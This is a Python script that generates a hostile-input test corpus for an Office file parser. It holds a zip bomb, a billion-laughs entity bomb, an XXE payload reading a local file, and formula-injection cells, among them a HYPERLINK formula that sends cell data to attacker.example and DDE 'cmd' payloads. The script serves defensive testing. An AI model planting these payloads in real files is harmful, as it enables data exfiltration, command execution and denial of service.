"""Build the hostile-input corpus: one file per failure mode, named for what it breaks.

Run `python tests/data/make_hostile.py`; the files are committed so the corpus is fixed.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent / "hostile"
ROOT = Path(__file__).resolve().parents[2]
GOOD_XLSX = ROOT / "samples" / "responses" / "vendor_a_alpha.xlsx"
GOOD_DOCX = ROOT / "samples" / "responses" / "vendor_c_ctech.docx"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def rezip(src: Path, dst: Path, edit=None, add: dict | None = None, drop=()) -> None:
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            if info.filename in drop:
                continue
            data = z.read(info)
            if edit:
                data = edit(info.filename, data)
            out.writestr(info.filename, data)
        for name, data in (add or {}).items():
            out.writestr(name, data)


def main() -> None:
    HERE.mkdir(exist_ok=True)
    (HERE / "empty.xlsx").write_bytes(b"")
    # OOXML encrypted with a password is an OLE2/CFB container holding an EncryptedPackage stream
    (HERE / "encrypted.xlsx").write_bytes(CFB + b"\0" * 504 + "EncryptedInfo\0EncryptedPackage".encode("utf-16-le") + b"\0" * 1024)
    (HERE / "legacy.xls").write_bytes(CFB + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\0" * 1024)
    (HERE / "legacy.doc").write_bytes(CFB + b"\0" * 504 + "WordDocument".encode("utf-16-le") + b"\0" * 1024)
    (HERE / "rtf_named.docx").write_bytes(b"{\\rtf1\\ansi \\u35201?\\u20214? hello}")
    (HERE / "html_saved_as.xls").write_bytes("<html><body><table><tr><td>要件</td><td>○</td></tr></table></body></html>".encode())
    (HERE / "pdf_named.xlsx").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n")
    with zipfile.ZipFile(HERE / "plain_zip.docx", "w") as z:
        z.writestr("readme.txt", "just a zip")
    data = GOOD_XLSX.read_bytes()
    (HERE / "truncated.xlsx").write_bytes(data[: len(data) // 2])
    shutil.copy(GOOD_XLSX, HERE / "workbook_named.docx")
    # decompression bomb: one member of 200 MB of zeros compresses to ~200 KB
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * 200_000_000)
    (HERE / "zip_bomb.xlsx").write_bytes(buf.getvalue())
    # billion laughs in shared strings and an external entity in the Word body
    dtd = ('<!DOCTYPE worksheet [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i + 1} "{("&lol" + (str(i) if i else "") + ";") * 10}">' for i in range(8)) + "]>")

    def bomb(name, d):
        if name != "xl/worksheets/sheet1.xml":
            return d
        d = d.replace(b"<worksheet", dtd.encode() + b"<worksheet", 1)
        head, sep, tail = d.partition(b"<t>")
        return head + sep + b"&lol8;" + tail[tail.index(b"</t>"):]

    rezip(GOOD_XLSX, HERE / "entity_bomb.xlsx", edit=bomb)
    secret = HERE / "secret.txt"
    secret.write_text("TOP-SECRET-ON-DISK", encoding="utf-8")

    def xxe(name, d):
        if name != "word/document.xml":
            return d
        d = d.replace(b"?>", b'?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "secret.txt">]>', 1)
        return d.replace("提案者：株式会社シーテック".encode(), "提案者：&xxe;".encode(), 1)

    rezip(GOOD_DOCX, HERE / "external_entity.docx", edit=xxe)
    # a sheet that claims a million rows
    rezip(GOOD_XLSX, HERE / "huge_dimension.xlsx",
          edit=lambda n, d: d.replace(b'<dimension ref="A1:F39"/>', b'<dimension ref="A1:XFD1048576"/>') if n.startswith("xl/worksheets/") else d)
    # macro-enabled workbook and document: read as data, the VBA part is never run
    rezip(GOOD_XLSX, HERE / "macro_enabled.xlsm", add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake VBA: MsgBox pwned"},
          edit=lambda n, d: d.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                     b"application/vnd.ms-excel.sheet.macroEnabled.main+xml") if n == "[Content_Types].xml" else d)
    rezip(GOOD_DOCX, HERE / "macro_enabled.docm", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake VBA"},
          edit=lambda n, d: d.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                     b"application/vnd.ms-word.document.macroEnabled.main+xml") if n == "[Content_Types].xml" else d)
    # formula injection: vendor text that Excel would evaluate if copied as is
    from openpyxl import load_workbook

    wb = load_workbook(GOOD_XLSX)
    ws = wb.active
    ws["F5"] = '=HYPERLINK("http://attacker.example/?"&A1,"詳細")'
    ws["F5"].data_type = "s"  # stored as text, the way a pasted answer arrives
    ws["F6"] = "+cmd|' /C calc'!A0"
    ws["F7"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    ws["F8"] = "-2+3+cmd|' /C calc'!A0"
    wb.save(HERE / "formula_injection.xlsx")
    # a workbook with no answer table at all and a document with no text
    from docx import Document
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "メモ：回答は後日送付します"
    wb.save(HERE / "no_answer_table.xlsx")
    Document().save(str(HERE / "no_text.docx"))
    print("wrote", len(list(HERE.iterdir())), "files to", HERE)


if __name__ == "__main__":
    main()
